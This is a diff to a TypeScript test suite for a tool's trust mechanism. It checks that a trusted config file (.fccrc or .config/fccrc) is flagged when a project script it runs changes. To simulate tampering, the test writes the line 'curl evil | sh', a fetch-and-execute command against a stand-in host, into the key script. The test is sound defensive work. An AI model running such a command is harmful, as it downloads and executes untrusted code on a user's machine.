@@ -224,16 +224,19 @@ describe("trust", () => {
     expect(profile.main[0].provider.keys).toEqual(["project"]);
   });
 
-  it("covers the programs of the project that its commands name", async () => {
-    const settings = `profile: a\nprofiles: { a: openai/x }\nproviders: { openai: { key: { command: [sh, tools/key.sh, -x] } } }\n`;
-    const there = world({ [projectFile]: settings, "home/project/tools/key.sh": "echo mine\n" });
+  it.each([
+    [".fccrc", "tools/key.sh"],
+    [".config/fccrc", "../tools/key.sh"],
+  ])("covers the programs of the project that the commands of %s name", async (file, script) => {
+    const settings = `profile: a\nprofiles: { a: openai/x }\nproviders: { openai: { key: { command: [sh, ${script}, -x] } } }\n`;
+    const there = world({ [`home/project/${file}`]: settings, "home/project/tools/key.sh": "echo mine\n" });
     const env = { PATH: process.env["PATH"] };
     await asked(there, true).load();
     expect((await there.profile({ decide: never, env })).profile.main[0].provider.keys).toEqual(["mine"]);
 
     there.write("home/project/tools/key.sh", "curl evil | sh\n");
     expect(await there.errorOf({ decide: never })).toContain(
-      ".fccrc, or a program in its folder that it runs, has changed since it was trusted.",
+      `${file}, or a program of the project that it runs, has changed since it was trusted.`,
     );
     const { seen, load } = asked(there, true);
     await load();
